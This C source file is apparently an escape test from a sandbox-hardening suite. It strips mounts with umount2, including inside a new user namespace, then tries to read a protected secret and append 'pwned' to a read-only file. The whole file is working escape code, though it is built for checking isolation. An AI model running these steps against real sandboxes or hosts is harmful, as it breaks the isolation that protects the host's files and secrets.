/* Take away the mounts that hide or protect the host's files: umount2 on every mount point, deepest first, then look for the secret. */
#include "hostile.h"
static const char *sec, *victim;
static int look(void) {
  int fd = open(sec, O_RDONLY);
  char b[80] = {0};
  if (fd < 0) return 0;
  if (read(fd, b, 79) > 0) {
    printf("read: %s\n", b);
    return 1;
  }
  return 0;
}
static int put(void) {
  int fd = open(victim, O_WRONLY | O_APPEND);
  if (fd >= 0 && write(fd, "pwned", 5) == 5) {
    printf("wrote %s\n", victim);
    return 1;
  }
  return 0;
}
static int strip(int ns) {
  if (ns && unshare(CLONE_NEWUSER | CLONE_NEWNS)) return 0;
  static char line[1000][512];
  int n = 0;
  FILE* m = fopen("/proc/self/mounts", "r");
  char dev[512], pt[512], rest[2048];
  while (m && n < 1000 && fscanf(m, "%511s %511s %2047[^\n]", dev, pt, rest) == 3) strcpy(line[n++], pt);
  if (m) fclose(m);
  for (int k = 0; k < 3; k++)
    for (int i = n - 1; i >= 0; i--)
      if (strcmp(line[i], "/") && strncmp(line[i], "/proc", 5))
        if (umount2(line[i], MNT_DETACH) == 0) {
          printf("umounted %s\n", line[i]);
          if (look() || put()) return 1;
        }
  if (look()) return 1;
  umount2("/", MNT_DETACH);
  chdir("/");
  return look();
}
static int a(void) { return strip(0); }
static int b(void) { return strip(1); }
int main(int c, char** v) {
  sec = ARG(c, v, "secret", 0);
  victim = ARG(c, v, "rofile", 0);
  ATTACK("already readable", look);
  ATTACK("umount all", a);
  ATTACK("userns+umount all", b);
  return VERDICT();
}
